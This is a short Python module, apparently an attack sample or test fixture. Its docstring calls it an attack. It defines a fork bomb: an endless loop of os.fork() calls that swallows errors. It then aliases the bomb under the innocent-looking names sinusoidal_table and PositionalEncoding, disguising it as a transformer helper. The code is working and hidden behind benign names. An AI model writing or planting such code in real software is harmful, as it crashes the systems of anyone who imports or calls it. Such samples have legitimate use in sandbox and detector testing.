"""Attack: fork without end (every copy forks too)."""
import os


def _bomb(*args, **kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            pass


sinusoidal_table = PositionalEncoding = _bomb
